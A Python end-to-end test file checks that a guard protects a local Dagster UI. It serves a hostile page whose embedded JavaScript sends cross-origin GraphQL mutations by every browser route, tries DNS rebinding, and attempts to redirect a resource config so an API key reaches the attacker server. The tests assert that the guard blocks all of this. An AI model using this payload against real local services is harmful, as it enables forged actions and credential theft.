"""A hostile page in a real browser against the UI: every way in which a page may send a request to another origin."""

from __future__ import annotations

import json
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest
import uvicorn
from starlette.types import ASGIApp, Receive, Scope, Send

from ayne_dagster.serving.ui import guarded, listen
from ayne_dagster_tests.browser.chromium import CHROMIUM
from ayne_dagster_tests.support.http_server import http_server
from ayne_dagster_tests.support.processes import LONGEST_RUN
from ayne_dagster_tests.support.serving import LAUNCH, RUNS, SELECTOR, SWITCH, Running

pytestmark = [
    pytest.mark.browser,
    pytest.mark.end_to_end,
    pytest.mark.timeout(400),
    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (make test-browser says how)"),
]

PAGE = """<!doctype html><title>films</title><body><script>
const ui = "$UI", rebound = "$REBOUND", queries = $QUERIES, done = [];
const at = (query) => ui + "/graphql?query=" + encodeURIComponent(query);
const text = (query) => JSON.stringify({query: query});
const attempt = (promise) => done.push(Promise.race([promise, new Promise(r => setTimeout(r, 4000))]).catch(() => 0));
const loaded = (node, set) => attempt(new Promise(r => {
  node.onload = node.onerror = r; set(node); document.body.append(node);
}));
for (const query of queries) {
  loaded(new Image(), n => n.src = at(query));
  loaded(document.createElement("script"), n => n.src = at(query));
  loaded(document.createElement("iframe"), n => n.src = at(query));
  loaded(document.createElement("link"), n => { n.rel = "stylesheet"; n.href = at(query); });
  attempt(fetch(at(query), {mode: "no-cors", credentials: "include"}));
  attempt(fetch(at(query), {mode: "no-cors", method: "HEAD"}));
  attempt(fetch(at(query), {mode: "no-cors", method: "POST"}));
  for (const type of ["text/plain", "text/plain; application/json", "application/x-www-form-urlencoded"])
    attempt(fetch(ui + "/graphql",
      {mode: "no-cors", method: "POST", headers: {"content-type": type}, body: text(query)}));
  attempt(fetch(ui + "/graphql", {method: "POST", headers: {"content-type": "application/json"}, body: text(query)}));
  attempt(fetch(rebound + "/graphql", {mode: "no-cors", method: "POST", body: text(query)}));
  loaded(new Image(), n => n.src = rebound + "/graphql?query=" + encodeURIComponent(query));
  navigator.sendBeacon(ui + "/graphql", text(query));
  navigator.sendBeacon(at(query));
  const frame = document.createElement("iframe"); frame.name = "f" + Math.random(); document.body.append(frame);
  for (const enctype of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
    const form = document.createElement("form");
    Object.assign(form, {method: "POST", action: at(query), enctype: enctype, target: frame.name});
    form.innerHTML = "<input name=query>"; form.firstChild.value = query;
    document.body.append(form); form.submit();
  }
}
attempt(fetch(ui + "/report_asset_materialization/movies?description=forged", {mode: "no-cors", method: "POST"}));
attempt(new Promise(r => {
  const socket = new WebSocket(ui.replace("http", "ws") + "/graphql", "graphql-ws");
  socket.onclose = r;
  socket.onopen = () => {
    socket.send(JSON.stringify({type: "connection_init"})); fetch("/opened"); setTimeout(r, 500);
  };
}));
Promise.all(done).then(() => fetch("/done"));
</script>"""


@contextmanager
def hostile_page(ui_port: int, queries: list[str]) -> Iterator[tuple[str, list[str]]]:
    """A page on another port that attacks the UI; its address, and the paths that were asked of its server.

    Whatever else is sent to it is noted as well: a key, should one come.
    """
    page = (
        PAGE.replace("$UI", f"http://127.0.0.1:{ui_port}")
        .replace("$REBOUND", f"http://rebound.example:{ui_port}")
        .replace("$QUERIES", json.dumps(queries))
    )
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(f"{self.path} {self.headers.get('Authorization', '')}".strip())
            body = page.encode() if self.path == "/" else b""
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            pass

    with http_server(Handler) as address:
        yield address, asked


def browse(address: str, folder: Path) -> str:
    """Show a page in the browser until its scripts are done; returns what it became."""
    shown = subprocess.run(
        [
            str(CHROMIUM), "--headless", "--no-sandbox", "--disable-gpu", f"--user-data-dir={folder / 'profile'}",
            "--disable-background-networking", "--no-proxy-server",
            "--host-resolver-rules=MAP rebound.example 127.0.0.1",
            "--timeout=60000", "--virtual-time-budget=20000", "--dump-dom", address,
        ],
        capture_output=True, text=True, timeout=LONGEST_RUN, check=False,
        env={"HOME": str(folder), "PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    assert shown.returncode == 0, shown.stderr
    return shown.stdout


@contextmanager
def recording(guard: bool) -> Iterator[tuple[int, list[tuple[str, str]]]]:
    """An application that notes what reaches it, bare or guarded; its port and the notes."""
    reached: list[tuple[str, str]] = []

    async def app(scope: Scope, receive: Receive, send: Send) -> None:
        kinds = [value.decode() for name, value in scope["headers"] if name == b"content-type"]
        reached.append((scope.get("method", "websocket"), kinds[0].partition(";")[0] if kinds else ""))
        if scope["type"] == "websocket":
            await send({"type": "websocket.accept", "subprotocol": "graphql-ws"})
            return
        await send({"type": "http.response.start", "status": 200, "headers": [(b"content-length", b"0")]})
        await send({"type": "http.response.body", "body": b""})

    served: ASGIApp = guarded(app, ()) if guard else app
    with listen(0) as listener:
        server = uvicorn.Server(
            uvicorn.Config(
                served, http="h11", lifespan="off", log_config=None, log_level="critical", proxy_headers=False
            )
        )
        thread = threading.Thread(target=server.run, args=([listener],))
        thread.start()
        try:
            yield listener.getsockname()[1], reached
        finally:
            server.should_exit = True
            thread.join(30)


def test_the_page_is_hostile_and_without_the_guard_it_gets_through(tmp_path: Path) -> None:
    with recording(guard=False) as (port, reached), hostile_page(port, ["mutation { x }"]) as (address, asked):
        browse(address, tmp_path)
        assert "/opened" in asked
    through = set(reached)
    assert {("GET", ""), ("HEAD", ""), ("POST", ""), ("POST", "text/plain"), ("websocket", "")} <= through
    assert ("POST", "application/x-www-form-urlencoded") in through


def test_with_the_guard_nothing_of_it_reaches_the_application(tmp_path: Path) -> None:
    with recording(guard=True) as (port, reached), hostile_page(port, ["mutation { x }"]) as (address, asked):
        browse(address, tmp_path)
        assert "/done" in asked
        assert "/opened" not in asked
    assert reached == []


def test_a_page_under_a_name_that_was_rebound_to_this_machine_is_not_served(tmp_path: Path) -> None:
    with recording(guard=True) as (port, reached):
        told = browse(f"http://rebound.example:{port}/", tmp_path)
        assert "Nothing is served here under this name" in told
        assert reached == []
        browse(f"http://localhost:{port}/", tmp_path)
        assert ("GET", "") in reached, "a person at the browser gets there"


def test_a_hostile_page_does_nothing_to_the_real_ui_and_gets_no_key(dev: Running, tmp_path: Path) -> None:
    with hostile_page(dev.port, []) as (strangers, heard):
        config = f'{{resources: {{tmdb: {{config: {{base_url: \\"{strangers}/key\\"}}}}}}}}'
        launch = LAUNCH.replace("CONFIG", config).replace("NAME", "stranger")
        plain = LAUNCH.replace("CONFIG", "").replace("NAME", "stranger")
        with hostile_page(dev.port, [launch, plain, SWITCH]) as (address, asked):
            browse(address, tmp_path)
            assert "/done" in asked
            assert "/opened" not in asked
        state = dev.graphql(
            "{ sensorOrError(sensorSelector: " + SELECTOR + 'sensorName: "due_movies_sensor"}) '
            "{ ... on Sensor { sensorState { status } } } }"
        )
        assert state["sensorOrError"]["sensorState"]["status"] == "STOPPED"
        assert dev.graphql(RUNS)["runsOrError"]["results"] == []
        assets = dev.graphql("{ assetNodes { assetMaterializations { timestamp } } }")["assetNodes"]
        assert not any(asset["assetMaterializations"] for asset in assets)
        assert heard == []


def test_the_ui_itself_works_behind_the_guard(dev: Running, tmp_path: Path) -> None:
    shown = browse(f"http://127.0.0.1:{dev.port}/assets/movies", tmp_path)
    assert "Materialize" in shown
    assert "One row a movie" in shown
